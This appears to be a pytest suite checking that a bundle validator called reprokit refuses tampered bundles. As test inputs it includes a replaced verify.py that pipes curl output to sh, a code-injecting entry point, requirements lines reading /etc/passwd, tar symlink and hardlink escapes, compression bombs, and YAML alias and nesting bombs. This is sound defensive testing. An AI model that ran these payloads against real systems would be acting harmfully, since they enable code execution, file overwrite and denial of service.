"""validate fails closed: a bundle that is not exactly what reprokit writes never gets to
run anything, and an unpacked tarball stays inside its folder and its caps."""

from __future__ import annotations

import dataclasses
import gzip
import io
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reprokit import sandbox
from reprokit.archive import ArchiveSettings, archive
from reprokit.bundle import manifest
from reprokit.bundle.integrity import safe_relpath
from reprokit.cli import main
from reprokit.resolve.lockfile import parse_requirements
from reprokit.scan.entrypoints import EntryPoint
from reprokit.validate import ValidateSettings, validate
from tests.fakeindex import FakeIndex, running
from tests.helpers import CLI_USERS, RUNNING, reprokit_as, resign, shared_copy, write_tree

PAPER = {
    "CITATION.cff": 'cff-version: 1.2.0\nmessage: "cite"\ntitle: "Tiny"\nauthors:\n  - family-names: Doe\n    given-names: Jo\ndate-released: "2024-01-20"\n',
    "run.py": "import alpha\nif __name__ == '__main__':\n    print(alpha.__version__)\n",
    "requirements.txt": "alpha\n",
}


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("safety")
    index = FakeIndex()
    index.add("alpha", "1.0", uploaded="2023-06-01T00:00:00Z")
    paper = write_tree(base / "tiny", PAPER)
    with running(index) as url:
        result = archive(ArchiveSettings(python=RUNNING, paper=paper, output=base / "b", offline=True, record_outputs=False,
                                         index_url=f"{url}/simple/", cache_dir=base / "cache", quiet=True))
    return result.bundle


def copy(bundle: Path, tmp_path: Path) -> Path:
    b = tmp_path / "b"
    shutil.copytree(bundle, b, symlinks=True)
    return b


def problems_of(b: Path, **kw: object) -> list[tuple[str | None, str]]:
    report = validate(ValidateSettings(bundle=b, **kw))  # type: ignore[arg-type]
    return [(p.path, p.message) for c in report.checks for p in c.problems]


def test_the_untouched_bundle_passes(bundle: Path) -> None:
    assert problems_of(bundle) == []


@pytest.mark.parametrize("line", [
    "--find-links http://127.0.0.1:9/evil/",
    "--index-url=http://127.0.0.1:9/simple",
    "-r /etc/passwd",
    "evil @ https://127.0.0.1:9/evil-1.0-py3-none-any.whl",
    "evil @ file:///tmp/outside/evil-1.0.tar.gz",
    "file:///tmp/outside/evil-1.0.tar.gz",
    "-e .",
    "alpha[extra]==1.0",
    "beta==1.0 ; python_version > '3'",
])
def test_anything_but_pins_with_hashes_in_requirements_lock_is_an_integrity_problem(bundle: Path, tmp_path: Path, line: str) -> None:
    b = copy(bundle, tmp_path)
    with open(b / "requirements.lock", "a") as fh:
        fh.write(line + "\n")
    resign(b)
    marker = tmp_path / "ran"
    found = problems_of(b, rebuild="pip")
    n = len((b / "requirements.lock").read_text().splitlines())
    assert ("requirements.lock", f"line {n}: {line!r} is not a 'name==version' pin with hashes; reprokit writes nothing else") in found \
        or any(p == "requirements.lock" and f"line {n}" in m for p, m in found), found
    report = validate(ValidateSettings(bundle=b, rebuild="pip", rerun=True))
    assert {c.name: c.skipped for c in report.checks}["rebuild-pip"] == "not run: integrity failed, and nothing of such a bundle runs"
    assert not report.ok and not marker.exists()


def test_requirements_lock_as_reprokit_writes_it_parses_back(bundle: Path) -> None:
    pins, bad = parse_requirements((bundle / "requirements.lock").read_text())
    man = manifest.read(bundle / "reprokit.yaml")
    assert bad == []
    assert {(p.name, p.version) for p in pins} == {(p.name, p.version) for p in man.packages}


@pytest.mark.parametrize("path", ["-cimport os; os.system('touch /tmp/pwned')", "missing.py", "run.py/", "CITATION.cff"])
def test_entry_points_must_be_files_of_the_paper(bundle: Path, tmp_path: Path, path: str) -> None:
    b = copy(bundle, tmp_path)
    text = (b / "reprokit.yaml").read_text()
    evil = manifest.RecordedEntryPoint(entry_point=EntryPoint(name="evil", kind="script", path=path))
    resign(b, manifest.render(dataclasses.replace(manifest.read(b / "reprokit.yaml"), entry_points=(evil,))))
    found = problems_of(b)
    assert any(p == "reprokit.yaml" and m.startswith(f"entry point {path!r}: ") for p, m in found), found
    assert text != (b / "reprokit.yaml").read_text()


def test_an_entry_point_through_a_symlink_is_refused(bundle: Path, tmp_path: Path) -> None:
    b = copy(bundle, tmp_path)
    (b / "paper" / "run.py").unlink()
    (b / "paper" / "run.py").symlink_to("/etc/hostname")
    found = problems_of(b, rebuild="pip", rerun=True)
    assert ("paper/run.py", "is a symlink; bundles hold regular files only") in found


def test_a_replaced_verify_py_is_named(bundle: Path, tmp_path: Path) -> None:
    b = copy(bundle, tmp_path)
    (b / "verify.py").write_text("import os\nos.system('curl http://127.0.0.1:9 | sh')\n")
    resign(b)
    assert ("verify.py", "is not reprokit's verify.py; it may do anything when run: do not run it") in problems_of(b)


def test_yaml_aliases_in_the_manifest_are_refused(bundle: Path, tmp_path: Path) -> None:
    b = copy(bundle, tmp_path)
    laughs = "".join(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]\n" for i in range(1, 10))
    resign(b, "l0: &l0 lol\n" + laughs + (b / "reprokit.yaml").read_text())
    found = problems_of(b)
    assert any(p == "reprokit.yaml" and "anchors and aliases are refused" in m for p, m in found), found


def test_without_a_sandbox_nothing_runs_unless_asked(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "available", lambda: "bubblewrap cannot make a sandbox here: test")
    report = validate(ValidateSettings(bundle=bundle, rebuild="pip", rerun=True))
    checks = {c.name: c for c in report.checks}
    assert not report.ok and checks["sandbox"].ok is False
    assert "bubblewrap cannot make a sandbox here: test" in checks["sandbox"].problems[0].message
    assert checks["rebuild-pip"].skipped == "not run: no sandbox" and checks["rerun"].skipped == "not run: no sandbox"
    assert report.sandbox == ""


def test_no_sandbox_is_said_in_the_report(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["validate", str(bundle), "--rebuild", "pip", "--no-sandbox"]) == 0
    captured = capsys.readouterr()
    assert "bundle code ran NOT sandboxed (--no-sandbox)" in captured.out
    assert "--no-sandbox" in captured.err


# --- tarballs --------------------------------------------------------------------------

def tar_of(tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], name: str = "evil.tar.gz") -> Path:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    out = tmp_path / name
    out.write_bytes(gzip.compress(raw.getvalue()))
    return out


def member(name: str, **attrs: object) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    for k, v in attrs.items():
        setattr(info, k, v)
    return info


def refused(tgz: Path, capsys: pytest.CaptureFixture[str], *flags: str) -> str:
    assert main(["validate", str(tgz), *flags]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: {tgz}: ") and err.count("\n") == 1
    return err


def test_a_symlink_then_a_file_through_it_writes_nothing_outside(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    tgz = tar_of(tmp_path, [
        (member("b", type=tarfile.DIRTYPE), None),
        (member("b/escape", type=tarfile.SYMTYPE, linkname=str(outside)), None),
        (member("b/escape/pwned.txt"), b"pwned"),
    ])
    assert "a link" in refused(tgz, capsys)
    assert list(outside.iterdir()) == []


def test_a_hardlink_to_outside_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "target.txt"
    target.write_text("keep")
    tgz = tar_of(tmp_path, [(member("b/hard", type=tarfile.LNKTYPE, linkname=str(target)), None), (member("b/hard"), b"pwned")])
    assert "a link" in refused(tgz, capsys)
    assert target.read_text() == "keep"


def test_a_member_claiming_gigabytes_is_refused_before_writing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tf:
        tf.addfile(member("b/big.bin", size=0))
    header = bytearray(raw.getvalue())
    # Claim 6 GiB in the header (octal size field at 124, 12 bytes, checksum redone).
    header[124:136] = b"%011o\x00" % (6 << 30)
    header[148:156] = b"        "
    header[148:156] = b"%06o\x00 " % sum(header[:512])
    tgz = tmp_path / "sparse.tar.gz"
    tgz.write_bytes(gzip.compress(bytes(header[:512]) + b"\x00" * 4096))
    assert "--max-ratio" in refused(tgz, capsys)


def test_a_compression_bomb_is_refused_and_the_cap_can_be_raised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tgz = tar_of(tmp_path, [(member("b/zeros.bin"), b"\x00" * (8 << 20))])
    assert "over 200 times its own size" in refused(tgz, capsys)
    # Raised, the same tarball unpacks (and then fails as no bundle, which is not a cap).
    assert main(["validate", str(tgz), "--max-ratio", "100000"]) == 1
    assert "over" not in capsys.readouterr().err


def test_file_count_and_depth_are_capped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    many = tar_of(tmp_path, [(member(f"b/f{i}"), b"x") for i in range(30)], "many.tar.gz")
    assert "more than 20 members (--max-files)" in refused(many, capsys, "--max-files", "20")
    deep = tar_of(tmp_path, [(member("b/" + "d/" * 1500 + "f"), b"x")], "deep.tar.gz")
    assert "over the cap of 64 (--max-depth)" in refused(deep, capsys)


# --- nix build: with Nix's sandbox, or not at all -------------------------------------

def fake_nix(tmp_path: Path, stderr: str, code: int) -> Path:
    """A ``nix`` that records its arguments and answers like Nix would."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    log = tmp_path / "nix-args"
    (bindir / "nix").write_text(f"#!/bin/sh\nprintf '%s\\n' \"$*\" >> {log}\n"
                                f"[ \"$1\" = show-config ] && {{ echo 'sandbox = true'; exit 0; }}\n"
                                f"printf '%s\\n' {stderr!r} >&2\nexit {code}\n")
    (bindir / "nix").chmod(0o755)
    return bindir


@pytest.mark.parametrize(("stderr", "code", "expected"), [
    ("", 0, None),
    ("warning: ignoring the client-specified setting 'sandbox', because it is a restricted setting and you are not a trusted user", 0,
     "the Nix daemon ignored 'sandbox = true'"),
    ("error: sandboxing builds is not supported on this platform", 1, "Nix cannot sandbox builds here"),
])
def test_nix_build_runs_sandboxed_or_fails(bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           stderr: str, code: int, expected: str | None) -> None:
    monkeypatch.setenv("PATH", f"{fake_nix(tmp_path, stderr, code)}:{os.environ['PATH']}")
    report = validate(ValidateSettings(bundle=bundle, rebuild="nix"))
    check = {c.name: c for c in report.checks}["rebuild-nix"]
    build = [ln for ln in (tmp_path / "nix-args").read_text().splitlines() if ln.startswith("build")]
    assert build and "--option sandbox true" in build[0]
    if expected is None:
        assert check.ok is True and check.details == "Nix sandbox on"
    else:
        assert check.ok is False and check.problems[0].message.startswith(expected)


# Documents nested or sized as no reprokit writes: the YAML parser's time grows with the
# square of the nesting (50,000 flow lists ran for minutes), so they are refused before it.
HUGE_YAML = {
    "nested flow lists": "title: " + "[" * 50_000 + "]" * 50_000 + "\n",
    "nested flow mappings": "title: " + "{a: " * 50_000 + "b" + "}" * 50_000 + "\n",
    "nested block sequences": "".join("  " * i + "-\n" for i in range(5_000)),
    "compact nested sequences": "- " * 50_000 + "x\n",
    "a million keys": "".join(f"k{i}: v\n" for i in range(1_000_001)),
}


@pytest.mark.parametrize("shape", list(HUGE_YAML))
def test_a_manifest_shaped_as_no_reprokit_writes_is_refused_in_one_line(bundle: Path, tmp_path: Path, shape: str) -> None:
    b = copy(bundle, tmp_path)
    resign(b, HUGE_YAML[shape])
    # A hang fails here: validate must answer long before the timeout.
    proc = subprocess.run([sys.executable, "-m", "reprokit", "validate", str(b)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
    lines = [ln for ln in proc.stdout.splitlines() if "reprokit.yaml" in ln]
    assert any("nested deeper than" in ln or "more than 1,000,000 nodes" in ln for ln in lines), proc.stdout


@pytest.mark.parametrize("what", ["paper/requirements.txt", "vendor"])
@pytest.mark.parametrize("user", CLI_USERS)
def test_an_unreadable_file_or_folder_is_an_integrity_failure_naming_it(bundle: Path, user: str, what: str) -> None:
    b = shared_copy(bundle, Path("/tmp"))
    try:
        (b / what).chmod(0o000)
        proc = reprokit_as(user, ["validate", str(b)])
        printed = proc.stdout + proc.stderr
        assert "Traceback" not in printed
        if user == "root":  # root reads any file: the bundle is intact
            assert proc.returncode == 0, printed
        else:
            assert proc.returncode == 1 and f"{what}: cannot be read (Permission denied)" in proc.stdout, printed
    finally:
        (b / what).chmod(0o755)
        shutil.rmtree(b.parent, ignore_errors=True)


def test_a_fifo_listed_in_sha256sums_is_refused_not_read(bundle: Path, tmp_path: Path) -> None:
    b = copy(bundle, tmp_path)
    os.mkfifo(b / "paper" / "notes.txt")  # reading it would block for ever
    with open(b / "SHA256SUMS", "a") as fh:
        fh.write("0" * 64 + "  paper/notes.txt\n")
    proc = subprocess.run([sys.executable, "-m", "reprokit", "validate", str(b)], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1
    assert "paper/notes.txt: is not a regular file; bundles hold regular files only" in proc.stdout, proc.stdout


def _plain(text: str) -> bool:
    """A plain relative path, by its definition: parts joined by '/', none empty, '.' or
    '..', no control character or backslash, not starting as an option or a home."""
    return (bool(text) and text[0] not in "/-~" and "\\" not in text and all(ord(c) >= 32 for c in text)
            and all(part not in ("", ".", "..") for part in text.split("/")))


@given(st.text(alphabet=st.sampled_from(["a", "é", "/", ".", "-", "~", "\\", "\x00", "\x1f", "\n", " ", "\x7f"]), max_size=12))
def test_a_path_listed_in_a_bundle_is_refused_unless_plain_and_relative(text: str) -> None:
    assert (safe_relpath(text) is None) == _plain(text)
